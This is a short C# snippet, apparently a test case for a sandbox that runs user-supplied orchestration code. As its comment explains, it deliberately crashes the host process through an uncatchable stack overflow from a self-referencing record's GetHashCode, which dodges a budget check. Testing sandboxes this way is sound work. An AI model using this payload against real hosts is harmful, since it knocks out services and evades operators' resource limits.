// Attack: crash the process with a stack overflow in compiler-generated code (a record's GetHashCode over a
// cycle): no budget check runs there, and .NET cannot catch a stack overflow.
record Node
{
    public Node Next { get; set; }
}

List<OrchestratorTune> GetFlowOrchestration(OrchestratorProps param)
{
    var node = new Node();
    node.Next = node;
    var hash = node.GetHashCode();
    return new List<OrchestratorTune>();
}
